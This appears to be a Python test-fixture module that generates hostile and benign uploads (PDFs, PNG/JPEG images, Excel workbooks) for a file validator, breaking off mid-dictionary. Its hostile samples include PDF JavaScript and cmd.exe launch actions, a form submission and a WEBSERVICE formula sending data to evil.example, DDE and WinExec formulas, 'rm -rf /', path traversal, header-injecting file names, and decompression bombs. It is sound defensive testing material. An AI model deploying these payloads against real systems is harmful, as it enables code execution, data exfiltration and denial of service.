"""Files that must not come in, and files that must. All made here; a few seconds for more than two hundred.

`hostile()` gives (name, file name, bytes); `good()` gives (name, file name, bytes, kind). `tails()` are good files that
carry something behind their end: they come in without it, because pictures are written anew.
"""

from __future__ import annotations

import io
import re
import struct
import zipfile
import zlib
from collections.abc import Callable, Iterator
from typing import Any, Final

import openpyxl
import pikepdf
import typst
from pikepdf import Array, Dictionary, Name, String
from PIL import Image

from cixi_oversight.documents.enums import FileKind

Hostile = tuple[str, str, bytes]
Good = tuple[str, str, bytes, FileKind]
KIB: Final = 1024
WORKBOOK_TYPE: Final = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"


# --- building blocks: PDF ---


def fresh(thing: Any) -> Any:
    """Not tied to the file that it was used in before."""
    return pikepdf.Object.parse(thing.unparse()) if isinstance(thing, pikepdf.Object) else thing


def pdf(change: Callable[[pikepdf.Pdf], None] | None = None, *, pages: int = 1, **save: Any) -> bytes:
    made = pikepdf.new()
    for _ in range(pages):
        made.add_blank_page(page_size=(595, 842))
    if change is not None:
        change(made)
    out = io.BytesIO()
    made.save(out, fix_metadata_version=False, **save)
    return out.getvalue()


def opening(action: Any) -> bytes:
    """A PDF that does this when it is opened."""

    def change(made: pikepdf.Pdf) -> None:
        own = fresh(action)
        made.Root.OpenAction = made.make_indirect(own) if isinstance(own, Dictionary) else own

    return pdf(change)


def clicking(action: Any, **more: Any) -> bytes:
    """A PDF with a place that does this when it is clicked."""

    def change(made: pikepdf.Pdf) -> None:
        note = {"/Type": Name.Annot, "/Subtype": Name.Link, "/Rect": [0, 0, 100, 100], "/A": fresh(action)} | {
            key: fresh(value) for key, value in more.items()
        }
        made.pages[0].Annots = Array([made.make_indirect(Dictionary(note))])

    return pdf(change)


def root(**entries: Any) -> bytes:
    def change(made: pikepdf.Pdf) -> None:
        for key, value in entries.items():
            made.Root[f"/{key}"] = value(made) if callable(value) else fresh(value)

    return pdf(change)


def streamed(data: bytes, **entries: Any) -> bytes:
    """A PDF whose page is this stream, as it is: already packed."""

    def change(made: pikepdf.Pdf) -> None:
        stream = pikepdf.Stream(made, b"")
        filters = entries.pop("Filter", None)
        stream.write(data, filter=filters)
        for key, value in entries.items():
            stream[f"/{key}"] = value
        made.pages[0].Contents = made.make_indirect(stream)

    return pdf(change, compress_streams=False, stream_decode_level=pikepdf.StreamDecodeLevel.none)


def attached() -> bytes:
    def change(made: pikepdf.Pdf) -> None:
        made.attachments["evil.exe"] = b"MZ" + bytes(200)

    return pdf(change)


def script(text: str = "app.alert(1)") -> Dictionary:
    return Dictionary(S=Name.JavaScript, JS=String(text))


def pictured(width: int, height: int) -> bytes:
    """A page with a picture that says it is so large."""

    def change(made: pikepdf.Pdf) -> None:
        image = pikepdf.Stream(made, b"\0" * 16)
        image.Type, image.Subtype, image.Width, image.Height = Name.XObject, Name.Image, width, height
        image.ColorSpace, image.BitsPerComponent = Name.DeviceGray, 8
        made.pages[0].Resources = Dictionary(XObject=Dictionary(Im0=made.make_indirect(image)))

    return pdf(change)


def zeros(megabytes: int, *, times: int = 1) -> bytes:
    """Packed so often; one megabyte becomes a kilobyte each time."""
    pack = zlib.compressobj(6)
    data = b"".join([*(pack.compress(bytes(KIB * KIB)) for _ in range(megabytes)), pack.flush()])
    for _ in range(times - 1):
        data = zlib.compress(data, 9)
    return data


# --- building blocks: pictures ---


def picture(size: tuple[int, int] = (120, 80), mode: str = "RGB", kind: str = "PNG", **save: Any) -> bytes:
    image = Image.linear_gradient("L").resize(size)
    if mode == "P":
        image = image.convert("RGB").quantize(64)
    elif mode == "I;16":
        image = Image.new("I;16", size, 30_000)
    else:
        image = image.convert(mode)
    out = io.BytesIO()
    image.save(out, kind, **save)
    return out.getvalue()


def chunk(kind: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))


def png(width: int, height: int, *chunks: bytes, depth: int = 8, colour: int = 2) -> bytes:
    start = chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, depth, colour, 0, 0, 0))
    return b"\x89PNG\r\n\x1a\n" + start + b"".join(chunks) + chunk(b"IEND", b"")


def jpeg_sized(width: int, height: int) -> bytes:
    """A small JPEG whose header says another size."""
    data = bytearray(picture(kind="JPEG"))
    at = data.index(b"\xff\xc0") + 5
    data[at : at + 4] = struct.pack(">HH", height, width)
    return bytes(data)


def frames(kind: str, count: int = 3) -> bytes:
    out = io.BytesIO()
    shown = [Image.new("RGB", (20, 20), (number, 0, 0)) for number in range(count)]
    shown[0].save(out, kind, save_all=True, append_images=shown[1:], duration=20)
    return out.getvalue()


def turned(orientation: int, kind: str = "JPEG", **save: Any) -> bytes:
    exif = Image.Exif()
    exif[0x0112] = orientation
    return picture(kind=kind, exif=exif, **save)


# --- building blocks: sheets ---


def sheet(change: Callable[[Any], None] | None = None) -> bytes:
    book = openpyxl.Workbook()
    book.active.append(["机构名称", "统一社会信用代码", "金额"])
    book.active.append(["慈溪市浒山青禾艺术培训有限公司", "91310115591693856A", 1234.5])
    if change is not None:
        change(book)
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def rezipped(data: bytes, parts: dict[str, bytes] | None = None, **edits: tuple[bytes, bytes]) -> bytes:
    """The workbook with further parts, and with `part=(old, new)` replaced (dots and slashes as underscores)."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as old, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as new:
        for name in old.namelist():
            content = old.read(name)
            key = re.sub(r"[/.]", "_", re.sub(r"[\[\]]", "", name))
            if key in edits:
                before, after = edits[key]
                assert before in content, (name, before)
                content = content.replace(before, after)
            new.writestr(name, content)
        for name, content in (parts or {}).items():
            new.writestr(name, content)
    return out.getvalue()


def zipped(parts: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return out.getvalue()


def related(kind: str, target: str) -> bytes:
    """A workbook whose sheet refers to something outside of it."""
    relations = (
        '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        '<Relationship Id="rId9" TargetMode="External" Target="%s" '
        'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/%s"/></Relationships>'
    )
    return rezipped(sheet(), {"xl/worksheets/_rels/sheet1.xml.rels": (relations % (target, kind)).encode()})


def formula(text: str) -> bytes:
    return sheet(lambda book: book.active.__setitem__("D2", text))


# --- what must not come in ---


def hostile() -> Iterator[Hostile]:
    yield from _lying()
    yield from _named()
    yield from _active_pdfs()
    yield from _odd_pdfs()
    yield from _pictures()
    yield from _sheets()
    yield from _cut()


def _lying() -> Iterator[Hostile]:
    """Other kinds under allowed names, and the other way round."""
    html = b"<!DOCTYPE html><html><script>alert(1)</script></html>"
    svg = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
    gif_js = b"GIF89a/*" + bytes(20) + b"*/=1;alert(1)//"
    exe = b"MZ" + bytes(200) + b"PE\0\0" + bytes(400)
    contents = {
        "html": html,
        "svg": svg,
        "xhtml": b'<?xml version="1.0"?>' + html,
        "xslt": b'<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="#"?><a/>',
        "billion laughs": b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b "c"><!ENTITY d "&b;&b;">]><a>&d;</a>',
        "GIF that is a script": gif_js,
        "GIF": frames("GIF"),
        "program": exe,
        "shell script": b"#!/bin/sh\nrm -rf /\n",
        "batch": b"@echo off\r\ndel *.*\r\n",
        "text": "营业执照".encode(),
        "nothing but zeros": bytes(500),
        "one byte": b"%",
        "nothing": b"",
        "old Excel": bytes.fromhex("D0CF11E0A1B11AE1") + bytes(2048),
        "RTF": b"{\\rtf1\\ansi hello}",
        "PostScript": b"%!PS-Adobe-3.0\n(file) run\n",
        "WebP": picture(kind="WEBP"),
        "BMP": picture(kind="BMP"),
        "TIFF": picture(kind="TIFF"),
        "icon": picture((16, 16), kind="ICO"),
        "7z": b"7z\xbc\xaf\x27\x1c" + bytes(100),
        "RAR": b"Rar!\x1a\x07\x01\x00" + bytes(100),
        "gzip": b"\x1f\x8b\x08" + bytes(100),
        "EICAR": b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-" + b"ANTIVIRUS-TEST-FILE!$H+H*",
    }
    for name, data in contents.items():
        yield name, "营业执照.pdf", data
    yield "HTML as a picture", "a.png", html
    yield "PDF as a picture", "a.jpg", pdf()
    yield "picture as a PDF", "a.pdf", picture()
    yield "JPEG as PNG", "a.png", picture(kind="JPEG")
    yield "PDF as a sheet", "a.xlsx", pdf()
    yield "sheet as a PDF", "a.pdf", sheet()
    yield "sheet with the name of one with macros", "a.xlsm", sheet()


def _named() -> Iterator[Hostile]:
    """Good content under a name that says otherwise or does harm."""
    for name in ("a.pdf.exe", "a.exe", "a.pdf.html", "a.svg", "a.php", "a.pdf.js", "a\u202etxt.exe", "a.pdf.exe."):
        yield f"name {name!r}", name, pdf()
    for name in ("a.pdf\0.exe", "a\0.pdf", "a\r\n.pdf", "a\n.pdf", "a\u2028.pdf", "a%00.pdf", "a%0d%0aX: y.pdf"):
        yield f"name {name!r}", name, pdf()


def _active_pdfs() -> Iterator[Hostile]:
    """What would run, launch, submit or open, wherever it stands."""
    far = Dictionary(S=Name.GoToR, F=String("//evil/a.pdf"), D=Array([0, Name.Fit]))
    launch = Dictionary(S=Name.Launch, F=String("cmd.exe"))
    submit = Dictionary(S=Name.SubmitForm, F=Dictionary(FS=Name.URL, F=String("https://evil.example/")))
    actions = {
        "script": script(),
        "launch": launch,
        "launch with parameters": Dictionary(S=Name.Launch, Win=Dictionary(F=String("cmd.exe"), P=String("/c calc"))),
        "submit": submit,
        "import of data": Dictionary(S=Name.ImportData, F=String("a.fdf")),
        "other file": far,
        "embedded file": Dictionary(S=Name.GoToE, T=Dictionary(R=Name.C, N=String("a"))),
        "sound": Dictionary(S=Name.Sound),
        "movie": Dictionary(S=Name.Movie),
        "rendition": Dictionary(S=Name.Rendition, OP=0),
        "rich media": Dictionary(S=Name.RichMediaExecute),
        "thread": Dictionary(S=Name.Thread, F=String("a.pdf"), D=0),
        "printing": Dictionary(S=Name.Named, N=Name.Print),
        "unknown action": Dictionary(S=Name.Whatever),
        "no kind": Dictionary(Type=Name.Action),
    }
    for name, action in actions.items():
        yield f"opening: {name}", "a.pdf", opening(action)
        yield f"clicking: {name}", "a.pdf", clicking(action)
    web = Dictionary(S=Name.URI, URI=String("https://example.org/"))
    yield "opening: web page", "a.pdf", opening(web)
    for address in ("javascript:alert(1)", "file:///etc/passwd", "data:text/html,x", "\\\\evil\\share", "vbscript:x"):
        yield f"clicking: {address}", "a.pdf", clicking(Dictionary(S=Name.URI, URI=String(address)))
    next_one = Dictionary(S=Name.GoTo, D=Array([0, Name.Fit]), Next=script())
    yield "second action", "a.pdf", opening(next_one)
    yield (
        "one of several second actions",
        "a.pdf",
        opening(Dictionary(S=Name.GoTo, D=Array([]), Next=Array([fresh(launch)]))),
    )
    for key in ("WC", "WS", "DS", "WP", "DP"):
        yield f"document event {key}", "a.pdf", root(AA=Dictionary({f"/{key}": script()}))
    yield "page event", "a.pdf", pdf(lambda made: made.pages[0].__setattr__("AA", Dictionary(O=script())))
    yield "web page by an event", "a.pdf", pdf(lambda made: made.pages[0].__setattr__("AA", Dictionary(O=fresh(web))))
    yield "event of a field", "a.pdf", clicking(Dictionary(S=Name.GoTo, D=Array([])), **{"/AA": Dictionary(K=script())})
    names = Dictionary(Names=Array([String("a"), script()]))
    yield "script by name", "a.pdf", root(Names=lambda made: Dictionary(JavaScript=made.make_indirect(names)))
    yield "XFA form", "a.pdf", root(AcroForm=lambda made: Dictionary(XFA=pikepdf.Stream(made, b"<xdp/>")))
    loose = pdf(lambda made: made.Root.__setattr__("Loose", made.make_indirect(script())))
    yield "script that nothing refers to", "a.pdf", loose
    yield "script behind #-signs", "a.pdf", opening(script()).replace(b"/JavaScript", b"/J#61va#53cript")
    yield "script in an object stream", "a.pdf", _in_object_stream(script())
    yield "script in a locked file", "a.pdf", _locked("", script())
    for kind in ("RichMedia", "Screen", "Movie", "Sound", "3D"):
        yield f"note of kind {kind}", "a.pdf", clicking(Dictionary(S=Name.GoTo), **{"/Subtype": Name(f"/{kind}")})


def _in_object_stream(action: Any) -> bytes:
    def change(made: pikepdf.Pdf) -> None:
        made.Root.OpenAction = made.make_indirect(fresh(action))

    return pdf(change, object_stream_mode=pikepdf.ObjectStreamMode.generate)


def _locked(user: str, action: Any = None) -> bytes:
    def change(made: pikepdf.Pdf) -> None:
        if action is not None:
            made.Root.OpenAction = made.make_indirect(fresh(action))

    return pdf(change, encryption=pikepdf.Encryption(owner="owner-password", user=user))


def _odd_pdfs() -> Iterator[Hostile]:
    """Packed-in files, passwords, bombs, too many pages, not the beginning, not the end."""
    whole = pdf()
    yield "attachment", "a.pdf", attached()
    yield "attachment as a note", "a.pdf", clicking(Dictionary(S=Name.GoTo), **{"/Subtype": Name.FileAttachment})
    yield "portfolio", "a.pdf", root(Collection=Dictionary(View=Name.D))
    yield "associated file", "a.pdf", root(AF=Array([Dictionary(Type=Name.Filespec, F=String("a.xml"))]))
    yield "stream from another file", "a.pdf", streamed(b"0", F=String("/etc/passwd"))
    yield "password", "a.pdf", _locked("secret")
    yield "201 pages", "a.pdf", pdf(pages=201)
    yield "no page", "a.pdf", pdf(pages=0)
    yield "201 MB in a stream", "a.pdf", streamed(zeros(201), Filter=Name.FlateDecode)
    twice = Array([Name.FlateDecode, Name.FlateDecode])
    yield "300 MB packed twice", "a.pdf", streamed(zeros(300, times=2), Filter=twice)
    yield "200 MB in each of two", "a.pdf", _two_streams(zeros(120))
    yield "run lengths", "a.pdf", streamed(b"\x81\x00" * 4_000_000, Filter=Name.RunLengthDecode)
    yield "five filters", "a.pdf", streamed(zeros(1, times=5), Filter=Array([Name.FlateDecode] * 5))
    yield "picture of 50,000 x 50,000 in a PDF", "a.pdf", pictured(50_000, 50_000)
    yield "something before the header", "a.pdf", b"\n" + whole
    yield "HTML before the header", "a.pdf", b"<html><script>alert(1)</script>" + whole
    yield "PNG before the header", "a.pdf", picture() + whole
    yield "zip behind the end", "a.pdf", whole + zipped({"evil.exe": b"MZ"})
    yield "script behind the end", "a.pdf", whole + b"\n<script>alert(1)</script>"
    yield "header of another version", "a.pdf", whole.replace(b"%PDF-1", b"%PDF-9", 1)
    yield "header alone", "a.pdf", b"%PDF-1.7\n"
    yield "table of another place", "a.pdf", whole.replace(b"startxref\n", b"startxref\n9")
    yield "table that leads to itself", "a.pdf", _loop(whole)
    yield "pages that lead to themselves", "a.pdf", root(Pages=_ring)
    yield "no root", "a.pdf", whole.replace(b"/Root", b"/Rood")
    yield "nested a hundred thousand times", "a.pdf", _nested(100_000)
    dtd = b'<?xpacket?><!DOCTYPE x [<!ENTITY a "b">]><x:xmpmeta/>'
    yield "entities in the description", "a.pdf", root(Metadata=lambda made: _metadata(made, dtd))


def _two_streams(packed: bytes) -> bytes:
    def change(made: pikepdf.Pdf) -> None:
        parts = []
        for number in range(2):
            stream = pikepdf.Stream(made, b"")
            stream.write(packed, filter=Name.FlateDecode)
            stream.Number = number
            parts.append(made.make_indirect(stream))
        made.pages[0].Contents = Array(parts)

    return pdf(change, compress_streams=False, stream_decode_level=pikepdf.StreamDecodeLevel.none)


def _loop(whole: bytes) -> bytes:
    at = int(whole.rpartition(b"startxref\n")[2].split()[0])
    return whole.replace(b"trailer <<", b"trailer << /Prev %d" % at)


def _ring(made: pikepdf.Pdf) -> Any:
    ring = made.make_indirect(Dictionary(Type=Name.Pages, Count=1))
    ring.Kids = Array([ring])
    return ring


def _nested(depth: int) -> bytes:
    text = b"%PDF-1.4\n1 0 obj\n" + b"[" * depth + b"]" * depth + b"\nendobj\n"
    table = b"xref\n0 2\n0000000000 65535 f \n0000000009 00000 n \ntrailer << /Size 2 /Root 1 0 R >>\n"
    return text + table + b"startxref\n%d\n%%%%EOF\n" % len(text)


def _metadata(made: pikepdf.Pdf, text: bytes) -> Any:
    stream = pikepdf.Stream(made, text)
    stream.Type, stream.Subtype = Name.Metadata, Name.XML
    return made.make_indirect(stream)


def _pictures() -> Iterator[Hostile]:
    """Bombs, headers that lie, parts that are missing, pictures that move."""
    line = zlib.compress(bytes(1 + 3 * 100))
    data = chunk(b"IDAT", line)
    for width, height in ((50_000, 50_000), (2**31 - 1, 1), (1, 2**31 - 1), (10_001, 5_000), (0, 10)):
        yield f"PNG of {width} x {height}", "a.png", png(width, height, data)
    for width, height in ((50_000, 50_000), (65_535, 65_535), (65_535, 763), (0, 10)):
        yield f"JPEG of {width} x {height}", "a.jpg", jpeg_sized(width, height)
    yield "PNG that moves", "a.png", frames("PNG")
    yield "PNG that says it moves", "a.png", png(10, 10, chunk(b"acTL", struct.pack(">II", 9999, 0)), data)
    yield "PNG without data", "a.png", png(100, 100)
    yield "PNG with too little data", "a.png", png(100, 100, data)
    yield "PNG without end", "a.png", png(1, 1, chunk(b"IDAT", zlib.compress(bytes(4))))[:-12]
    yield "PNG with a changed byte", "a.png", _changed(picture(), b"IDAT")
    yield "PNG of an unknown depth", "a.png", png(1, 1, data, depth=3)
    yield "PNG of an unknown colour", "a.png", png(1, 1, data, colour=9)
    yield "PNG whose data is a bomb", "a.png", png(8, 8, chunk(b"IDAT", zeros(60)[:-100]))
    yield "PNG whose text is a bomb", "a.png", png(8, 8, chunk(b"iTXt", b"a\0\1\0\0\0" + zeros(100)))
    yield "PNG whose chunk is too long", "a.png", picture()[:33] + b"\x7f\xff\xff\xffIDAT"
    yield "PNG that begins with another chunk", "a.png", picture()[:8] + chunk(b"tEXt", b"a\0b") + picture()[8:]
    whole = picture(kind="JPEG")
    yield "JPEG without end", "a.jpg", whole[:-2]
    yield "JPEG of nothing but a head", "a.jpg", whole[:20]
    yield "JPEG with a segment that is too long", "a.jpg", whole[:2] + b"\xff\xe1\xff\xff" + whole[2:200]
    yield "JPEG without a frame", "a.jpg", b"\xff\xd8\xff\xe0\x00\x04ab\xff\xd9"
    yield (
        "JPEG with two frames",
        "a.jpg",
        whole.replace(b"\xff\xc0", b"\xff\xc0\x00\x0b\x08\x00\x01\x00\x01\x01\x01\x11\x00\xff\xc0"),
    )
    yield "lossless JPEG", "a.jpg", whole.replace(b"\xff\xc0", b"\xff\xc3")
    yield "arithmetic JPEG", "a.jpg", whole.replace(b"\xff\xc0", b"\xff\xc9")


def _changed(data: bytes, where: bytes) -> bytes:
    at = data.index(where) + 10
    return data[:at] + bytes([data[at] ^ 0xFF]) + data[at + 1 :]


def _sheets() -> Iterator[Hostile]:
    """Macros, links, packed-in things, bombs, zips that are no workbook."""
    plain = sheet()
    parts = {
        "macros": "xl/vbaProject.bin",
        "macro sheet": "xl/macrosheets/sheet1.xml",
        "ActiveX": "xl/activeX/activeX1.xml",
        "control": "xl/ctrlProps/ctrlProp1.xml",
        "external link": "xl/externalLinks/externalLink1.xml",
        "connection": "xl/connections.xml",
        "query": "xl/queryTables/queryTable1.xml",
        "embedded object": "xl/embeddings/oleObject1.bin",
        "add-in": "xl/webextensions/webextension1.xml",
        "ribbon": "customUI/customUI.xml",
        "program": "evil.exe",
        "path": "../../etc/passwd",
        "absolute path": "/etc/passwd",
        "signature": "_xmlsignatures/sig1.xml",
    }
    for name, part in parts.items():
        yield f"sheet with {name}", "a.xlsx", rezipped(plain, {part: b"<a/>"})
    for kind, target in (
        ("oleObject", "file:///c:/a.xls"),
        ("externalLinkPath", "//evil/a.xlsx"),
        ("image", "https://evil.example/a.png"),
        ("attachedTemplate", "https://evil.example/a.xltm"),
        ("hyperlink", "file://evil/share"),
        ("hyperlink", "javascript:alert(1)"),
    ):
        yield f"sheet that refers to {kind} {target}", "a.xlsx", related(kind, target)
    for text in (
        "=cmd|'/C calc'!A0",
        '=WEBSERVICE("https://evil.example/"&A1)',
        '=CALL("Kernel32","WinExec","JCJ","x",0)',
    ):
        yield f"sheet with {text}", "a.xlsx", formula(text)
    doctype = (b"<worksheet", b'<!DOCTYPE x [<!ENTITY a "b">]><worksheet')
    yield "sheet with a document type", "a.xlsx", rezipped(plain, xl_worksheets_sheet1_xml=doctype)
    yield "sheet that is not whole XML", "a.xlsx", rezipped(plain, xl_worksheets_sheet1_xml=(b"</worksheet>", b""))
    macro_type = (WORKBOOK_TYPE.encode(), b"application/vnd.ms-excel.sheet.macroEnabled.main+xml")
    yield "sheet of the type with macros", "a.xlsx", rezipped(plain, Content_Types_xml=macro_type)
    yield "bomb of 210 MB", "a.xlsx", rezipped(plain, {"xl/media/image1.png": bytes(210 * KIB * KIB)})
    yield "bomb of 9 MB in one part", "a.xlsx", rezipped(plain, {"xl/media/image1.png": bytes(9 * KIB * KIB)})
    yield "1,001 parts", "a.xlsx", rezipped(plain, {f"xl/media/{number}.png": b"" for number in range(1_001)})
    yield "the same part twice", "a.xlsx", rezipped(plain, {"XL/workbook.xml": b"<a/>"})
    yield "zip of a zip", "a.xlsx", zipped({"a.zip": zipped({"b.txt": b"x"})})
    yield "Word", "a.xlsx", zipped({"[Content_Types].xml": b"<a/>", "word/document.xml": b"<a/>"})
    yield "Java", "a.xlsx", zipped({"META-INF/MANIFEST.MF": b"Main-Class: Evil"})
    yield "empty zip", "a.xlsx", zipped({})
    yield "something before the zip", "a.xlsx", b"MZ" + bytes(98) + plain
    yield "locked part", "a.xlsx", _flagged(plain)
    yield "size that lies", "a.xlsx", _lying_size(plain)
    yield "workbook in an OLE file", "a.xlsx", bytes.fromhex("D0CF11E0A1B11AE1") + plain
    yield "a zip that holds itself", "a.xlsx", _quine()


def _flagged(data: bytes) -> bytes:
    out = bytearray(data)
    out[out.index(b"PK\x01\x02") + 8] |= 1
    return bytes(out)


def _lying_size(data: bytes) -> bytes:
    out = bytearray(data)
    at = out.index(b"PK\x01\x02") + 24
    out[at : at + 4] = struct.pack("<I", 10)
    return bytes(out)


def _quine() -> bytes:
    """Its only part begins at the archive's own first byte: unpacked, it would be itself, for ever."""
    whole = zipped({"xl/workbook.xml": b"<a/>", "r.zip": b"x" * 40})
    out = bytearray(whole)
    at = out.rindex(b"PK\x01\x02") + 42
    out[at : at + 4] = struct.pack("<I", 0)
    return bytes(out)


def _cut() -> Iterator[Hostile]:
    """Whole files, cut off at every KiB."""
    noise = Image.effect_noise((72, 72), 90).convert("RGB")
    for kind, suffix in (("PNG", "png"), ("JPEG", "jpg")):
        out = io.BytesIO()
        noise.save(out, kind, **({"quality": 95} if kind == "JPEG" else {}))
        yield from _each_kib(f"{kind} cut", f"a.{suffix}", out.getvalue())
    out = io.BytesIO()
    noise.save(out, "JPEG", quality=95, progressive=True)
    yield from _each_kib("progressive JPEG cut", "a.jpg", out.getvalue())
    yield from _each_kib("PDF cut", "a.pdf", printed("营业执照（副本）" * 6))
    yield from _each_kib("linearised PDF cut", "a.pdf", pdf(pages=12, linearize=True))
    yield from _each_kib("sheet cut", "a.xlsx", sheet())


def _each_kib(name: str, file_name: str, data: bytes) -> Iterator[Hostile]:
    for at in range(KIB, len(data), KIB):
        yield f"{name} at {at // KIB} KiB of {len(data) // KIB}", file_name, data[:at]


# --- what must come in ---


def printed(text: str, **more: Any) -> bytes:
    """By typst, with a link."""
    source = f'#set page("a4")\n= {text}\n#link("https://example.org/check")[查验]\n#outline()\n== 第一节\n== 第二节'
    made: bytes = typst.compile(source.encode(), format="pdf", **more)
    return made


def good() -> Iterator[Good]:
    yield from _good_pdfs()
    yield from _good_pictures()
    yield from _good_sheets()
    yield from _good_names()


def _good_pdfs() -> Iterator[Good]:
    web = Dictionary(S=Name.URI, URI=String("https://example.org/"))
    versions = {
        "one page": pdf(),
        "200 pages": pdf(pages=200),
        "linearised": pdf(pages=3, linearize=True),
        "object streams": pdf(object_stream_mode=pikepdf.ObjectStreamMode.generate),
        "no object streams": pdf(object_stream_mode=pikepdf.ObjectStreamMode.disable),
        "version 1.3": pdf(force_version="1.3"),
        "version 2.0": pdf(force_version="2.0"),
        "owner's password only": _locked(""),
        "owner's password, old way": pdf(
            encryption=pikepdf.Encryption(owner="x", user="", R=3, aes=False, metadata=False)
        ),
        "typst": printed("办学许可证"),
        "typst PDF/A-2b": printed("办学许可证", pdf_standards=["a-2b"]),
        "link to the web": clicking(web),
        "link by mail": clicking(Dictionary(S=Name.URI, URI=String("mailto:a@example.org"))),
        "link to a page": clicking(Dictionary(S=Name.GoTo, D=Array([0, Name.Fit]))),
        "next page": clicking(Dictionary(S=Name.Named, N=Name.NextPage)),
        "opens at a page": opening(Array([0, Name.Fit])),
        "opens at a page by an action": opening(Dictionary(S=Name.GoTo, D=Array([0, Name.Fit]))),
        "described": pdf(lambda made: made.docinfo.__setitem__("/Title", "营业执照（副本）")),
        "empty form": root(AcroForm=Dictionary(Fields=Array([]))),
        "structure with attributes": root(StructTreeRoot=_structure),
        "page labels": root(PageLabels=Dictionary(Nums=Array([0, Dictionary(S=Name.D)]))),
        "scan by Pillow": _scanned("RGB"),
        "grey scan by Pillow": _scanned("L"),
        "black and white scan by Pillow": _scanned("1"),
        "blanks behind the end": pdf() + b"\r\n \n",
        "100 MB of a blank picture": streamed(zeros(100), Filter=Name.FlateDecode),
        "changed once": _appended(),
    }
    for name, data in versions.items():
        yield f"PDF: {name}", "执照.pdf", data, FileKind.PDF


def _structure(made: pikepdf.Pdf) -> Any:
    element = Dictionary(Type=Name.StructElem, S=Name.Table, A=Dictionary(O=Name.Table, RowSpan=2))
    return made.make_indirect(Dictionary(Type=Name.StructTreeRoot, K=made.make_indirect(element)))


def _scanned(mode: str) -> bytes:
    out = io.BytesIO()
    Image.effect_noise((800, 1100), 60).convert(mode).save(out, "PDF", resolution=100)
    return out.getvalue()


def _appended() -> bytes:
    """A second revision behind the first, as signing programs write it."""
    whole = pdf(object_stream_mode=pikepdf.ObjectStreamMode.disable)
    before = int(whole.rpartition(b"startxref\n")[2].split()[0])
    with pikepdf.open(io.BytesIO(whole)) as made:
        size, catalogue = int(made.trailer.Size), made.Root.objgen[0]
    new = b"%d 0 obj\n(later)\nendobj\n" % size
    table = b"xref\n%d 1\n%010d 00000 n \ntrailer << /Size %d /Root %d 0 R /Prev %d >>\n" % (
        *(size, len(whole), size + 1, catalogue, before),
    )
    return whole + new + table + b"startxref\n%d\n%%%%EOF\n" % (len(whole) + len(new))


def _good_pictures() -> Iterator[Good]:
    for mode in ("1", "L", "LA", "P", "RGB", "RGBA", "I;16"):
        yield f"PNG of mode {mode}", "a.png", picture(mode=mode), FileKind.PNG
    yield "PNG with clear places", "a.png", picture(mode="P", transparency=0), FileKind.PNG
    yield "PNG that was turned", "a.png", turned(6, "PNG"), FileKind.PNG
    yield "PNG of one point", "a.png", picture((1, 1)), FileKind.PNG
    yield "PNG of one line", "a.png", picture((3_000, 1)), FileKind.PNG
    yield "PNG of 50 million points", "a.png", picture((10_000, 5_000), "L"), FileKind.PNG
    for mode in ("L", "RGB", "CMYK"):
        yield f"JPEG of mode {mode}", "a.jpg", picture(mode=mode, kind="JPEG"), FileKind.JPEG
    for orientation in range(1, 9):
        yield f"JPEG held as {orientation}", "IMG_0001.JPG", turned(orientation), FileKind.JPEG
    yield "JPEG, progressive", "a.jpeg", picture(kind="JPEG", progressive=True), FileKind.JPEG
    yield "JPEG, all colours kept", "a.jpg", picture(kind="JPEG", subsampling=0, quality=100), FileKind.JPEG
    yield "JPEG with a place and a thumbnail", "a.jpg", _photograph(), FileKind.JPEG
    yield "JPEG of 50 million points", "a.jpg", picture((10_000, 5_000), kind="JPEG"), FileKind.JPEG
    yield "JPEG of 50 million points, turned", "a.jpg", _large_turned(), FileKind.JPEG
    yield "JPEG of two frames of a telephone", "a.jpg", _with_depth(), FileKind.JPEG
    yield "JPEG with a broken EXIF", "a.jpg", picture(kind="JPEG", exif=b"Exif\0\0MM\0*\xff\xff\xff\xff"), FileKind.JPEG


def _photograph() -> bytes:
    exif = Image.Exif()
    exif[0x010F], exif[0x0110], exif[0x0132] = "Maker", "Model", "2026:11:23 10:00:00"
    exif.get_ifd(0x8825).update({1: "N", 2: (30.0, 10.0, 0.0), 3: "E", 4: (121.0, 14.0, 0.0)})
    return picture((640, 480), kind="JPEG", exif=exif, comment=b"by a telephone", dpi=(72, 72))


def _large_turned() -> bytes:
    exif = Image.Exif()
    exif[0x0112] = 8
    return picture((10_000, 5_000), kind="JPEG", exif=exif)


def _with_depth() -> bytes:
    out = io.BytesIO()
    first, second = Image.new("RGB", (64, 48), "navy"), Image.new("RGB", (32, 24), "white")
    first.save(out, "MPO", save_all=True, append_images=[second])
    return out.getvalue()


def _good_sheets() -> Iterator[Good]:
    def with_chart(book: Any) -> None:
        from openpyxl.chart import BarChart, Reference

        chart = BarChart()
        chart.add_data(Reference(book.active, min_col=3, min_row=1, max_row=2), titles_from_data=True)
        book.active.add_chart(chart, "E5")

    def with_picture(book: Any) -> None:
        from openpyxl.drawing.image import Image as Drawing

        book.active.add_image(Drawing(io.BytesIO(picture())), "E5")

    def with_rules(book: Any) -> None:
        from openpyxl.comments import Comment
        from openpyxl.worksheet.datavalidation import DataValidation
        from openpyxl.worksheet.table import Table

        book.active.add_data_validation(DataValidation(type="list", formula1='"是,否"', sqref="D2"))
        book.active["A1"].comment = Comment("口径", "局")
        book.active.add_table(Table(displayName="t", ref="A1:C2"))
        book.create_sheet("隐藏").sheet_state = "hidden"

    kinds: dict[str, Callable[[Any], None] | None] = {
        "plain": None,
        "formula": lambda book: book.active.__setitem__("D2", '=IF(C2>0,"A|B!","")&SUM(C2:C2)'),
        "link": lambda book: setattr(book.active["A2"], "hyperlink", "https://example.org/"),
